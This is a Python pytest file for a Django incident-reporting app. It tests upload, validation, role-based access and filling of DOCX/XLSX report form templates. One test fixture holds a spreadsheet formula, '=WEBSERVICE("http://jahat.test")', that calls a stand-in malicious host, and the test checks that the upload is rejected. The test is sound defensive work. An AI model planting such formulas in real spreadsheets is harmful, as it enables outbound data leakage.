"""A province's own form: uploaded by its desk, used by those below it, filled for who may read."""

from datetime import timedelta
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from tests.support.briefing import DAY, PAGE, PRINTED, compose, send, tell_incident
from tests.support.cast import NOW, Cast
from tests.support.incidents import BULUNGAN
from tests.support.office import sheet_file, word_file, word_texts
from waspada.apps.briefing.form_fields import FIELDS, REQUIRED, filling_of
from waspada.apps.briefing.models import FormTemplate
from waspada.apps.briefing.paper import paper_of
from waspada.apps.periodic.compose import compose_periodic
from waspada.apps.periodic.paper import paper_of as periodic_paper
from waspada.channels.documents.office import check_form
from waspada.core.briefing.periods import read_period

pytestmark = [pytest.mark.words, pytest.mark.usefixtures("desks")]

FORMS = "/laporan-harian/65/formulir/"
ROW = ("{{ kejadian.no }}", "{{ kejadian.apa }}")


def _upload(cast: Cast, content: bytes, name: str = "formulir.docx", who: str = "province"):
    file = SimpleUploadedFile(name, content)
    return cast.client(who).post(FORMS, {"berkas": file})


def _fill(cast: Cast, who: str, *, place: str = BULUNGAN, query: str = ""):
    form = FormTemplate.objects.get(is_retired=False)
    path = f"/laporan-harian/{place}/{DAY.isoformat()}/formulir/{form.pk}{query}"
    return cast.client(who).get(path)


def _texts(answer) -> str:
    paragraphs, rows = word_texts(b"".join(answer) if answer.streaming else answer.content)
    return "\n".join([*paragraphs, *(" | ".join(row) for row in rows)])


def test_every_field_has_a_value(cast: Cast) -> None:
    tell_incident(cast)
    found = filling_of(paper_of(compose(cast, "desk"), PRINTED), BULUNGAN)
    plain = {name for name in FIELDS if "." not in name}
    listed = {name.partition(".")[2] for name in FIELDS if name.startswith("kejadian.")}
    assert set(found.values) == plain
    assert set(found.lists["kejadian"][0]) == listed
    assert set(REQUIRED) <= plain


def test_a_form_of_the_province_is_filled_by_the_desk_below(cast: Cast) -> None:
    content = word_file("No. {{ nomor }}", "{{ wilayah }}, {{ hari_tanggal }}", row=ROW)
    assert _upload(cast, content).status_code == 302
    tell_incident(cast, title="Kotak suara basah", summary="")
    page = cast.client("desk").get(PAGE).content.decode()
    assert "Isi formulir DOCX" in page
    text = _texts(_fill(cast, "desk"))
    assert "No. KONSEP – belum bernomor" in text
    assert "Kabupaten Bulungan, Kamis, 28 November 2024" in text
    assert "1 | Kotak suara basah" in text
    assert "BIASA" in text
    assert "Dicetak oleh Desk" in text


def test_what_was_sent_is_filled_in_as_it_was_sent(cast: Cast) -> None:
    _upload(cast, word_file("No. {{ nomor }}", row=ROW))
    tell_incident(cast, title="Yang dikirim", summary="")
    send(cast, compose(cast, "desk"))
    tell_incident(cast, title="Yang menyusul", summary="")
    text = _texts(_fill(cast, "desk"))
    assert "No. 200.1/LH/65.01/2024/0001" in text
    assert "Yang dikirim" in text
    assert "Yang menyusul" not in text
    assert "Diterbitkan oleh Desk" in text
    assert "Dicetak oleh Desk" in text


def test_nihil_is_said_in_the_form(cast: Cast) -> None:
    _upload(cast, word_file("{{ nihil }}", row=ROW))
    assert "NIHIL | " in _texts(_fill(cast, "desk"))


def test_a_form_holds_what_its_reader_may_see_and_no_more(cast: Cast) -> None:
    _upload(cast, word_file("{{ jumlah_kejadian }} buah", row=ROW))
    tell_incident(cast, classification="T", title="SANDI", summary="")
    assert "SANDI" in _texts(_fill(cast, "desk"))
    for name in ("police", "kpu", "camat"):
        assert "SANDI" not in _texts(_fill(cast, name))
    assert _fill(cast, "stranger").status_code == 404
    send(cast, compose(cast, "desk"))
    assert "SANDI" not in _texts(_fill(cast, "police"))


def test_the_consolidated_report_fills_the_form_too(cast: Cast) -> None:
    _upload(cast, word_file("{{ judul }}", row=("{{ laporan.wilayah }}", "{{ laporan.keadaan }}")))
    send(cast, compose(cast, "desk"), as_nil=True)
    text = _texts(_fill(cast, "province", place="65", query="?isi=gabungan"))
    assert "Laporan gabungan Provinsi Kalimantan Utara" in text
    assert "Kab. Bulungan | NIHIL" in text
    assert "Kota Tarakan | belum" in text
    assert _fill(cast, "desk", place="65", query="?isi=gabungan").status_code == 403


def test_unknown_fields_are_named_and_the_form_so_far_stays(cast: Cast) -> None:
    _upload(cast, word_file("{{ nomor }}"))
    answer = _upload(cast, word_file("{{ nama wilayah }}", "{{ kejadian.lokasi }}"))
    page = answer.content.decode()
    assert answer.status_code == 400
    assert "Isian “nama wilayah” tidak dikenal." in page
    assert "Mungkin maksudnya “wilayah”." in page
    assert "Isian “kejadian.lokasi” tidak dikenal." in page
    assert FormTemplate.objects.get(is_retired=False).fields[-1] == "nomor"


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"bukan berkas", "bukan DOCX atau XLSX"),
        (b"PK rusak", "rusak dan tidak dapat dibuka"),
        (sheet_file({"A2": '=WEBSERVICE("http://jahat.test")'}), "mengambil sesuatu dari luar"),
    ],
)
def test_what_is_no_form_gets_clear_words(cast: Cast, content: bytes, words: str) -> None:
    answer = _upload(cast, content)
    assert answer.status_code == 400
    assert words in answer.content.decode()
    assert FormTemplate.objects.count() == 0


def test_a_new_form_replaces_the_one_of_its_kind(cast: Cast) -> None:
    _upload(cast, word_file("{{ nomor }}"))
    _upload(cast, word_file("{{ wilayah }}"))
    _upload(cast, sheet_file({"A2": "{{ nomor }}"}), "formulir.xlsx")
    rows = FormTemplate.objects.filter(is_retired=False)
    assert sorted(rows.values_list("kind", flat=True)) == ["docx", "xlsx"]
    client = cast.client("province")
    for row in rows:
        assert client.get(f"{FORMS}{row.pk}/asli").status_code == 200
        client.post(f"{FORMS}{row.pk}/hapus/")
    assert not FormTemplate.objects.filter(is_retired=False).exists()


@pytest.mark.parametrize("name", ["desk", "kpu", "bupati", "analyst", "stranger"])
def test_only_the_desk_of_the_place_changes_its_forms(cast: Cast, name: str) -> None:
    _upload(cast, word_file())
    row = FormTemplate.objects.get()
    assert _upload(cast, word_file("{{ nomor }}"), who=name).status_code == 403
    client = cast.client(name)
    assert client.get(FORMS).status_code == 403
    assert client.post(f"{FORMS}{row.pk}/hapus/").status_code == 403
    assert not FormTemplate.objects.get().is_retired


@pytest.mark.parametrize("kind", ["docx", "xlsx"])
def test_the_example_has_every_field_and_can_be_uploaded(cast: Cast, kind: str) -> None:
    content = cast.client("desk").get(f"/laporan-harian/formulir/contoh.{kind}").content
    found = check_form(content, list(FIELDS), REQUIRED)
    assert found.is_usable
    assert set(found.fields) == set(FIELDS)
    assert _upload(cast, content, f"contoh.{kind}").status_code == 302
    assert BytesIO(_fill(cast, "desk").content).read(2) == b"PK"


def test_no_file_at_all_gets_clear_words(cast: Cast) -> None:
    answer = cast.client("province").post(FORMS, {})
    assert answer.status_code == 400
    assert "Pilih berkas DOCX atau XLSX" in answer.content.decode()


def test_a_weekly_report_is_written_in_the_form_for_weekly_reports(cast: Cast) -> None:
    content = word_file("{{ masa_laporan }}", "Kendala: {{ kendala_terbuka }}", row=ROW)
    file = SimpleUploadedFile("mingguan.docx", content)
    answer = cast.client("province").post(FORMS, {"berkas": file, "untuk": "mingguan"})
    assert answer.status_code == 302
    form = FormTemplate.objects.get()
    at = NOW - timedelta(days=8)
    tell_incident(cast, received_at=at, day=at.date(), title="Kotak suara basah", summary="")
    desk = cast.client("desk")
    week = f"/laporan-berkala/{BULUNGAN}/mingguan/2024-W47/"
    assert "Isi formulir DOCX" in desk.get(week).content.decode()
    assert "Isi formulir DOCX" not in desk.get(PAGE).content.decode()
    text = _texts(desk.get(f"{week}formulir/{form.pk}"))
    assert "18 November 2024 – 24 November 2024" in text
    assert "Kendala: 0" in text
    assert "1 | Kotak suara basah" in text
    assert desk.post(f"{week}kirim/", {"versi": "1"}).status_code == 302
    assert "Dicetak oleh Desk" in _texts(desk.get(f"{week}formulir/{form.pk}"))
    # A form for weekly reports is none for the day's, nor for a month's.
    assert _fill(cast, "desk").status_code == 404
    month = f"/laporan-berkala/{BULUNGAN}/bulanan/2024-10/formulir/{form.pk}"
    assert desk.get(month).status_code == 404
    bad = cast.client("province").post(FORMS, {"berkas": file, "untuk": "tahunan"})
    assert bad.status_code == 400


def test_every_field_of_a_report_over_a_period_has_a_value(cast: Cast) -> None:
    with cast.acting("desk"):
        period = read_period("bulanan", "2024-10")
        report = compose_periodic(BULUNGAN, period, "id", today=DAY)
        found = filling_of(periodic_paper(report, PRINTED), BULUNGAN)
    assert set(found.values) == {name for name in FIELDS if "." not in name}
    assert found.values["kendala_terbuka"] == 0
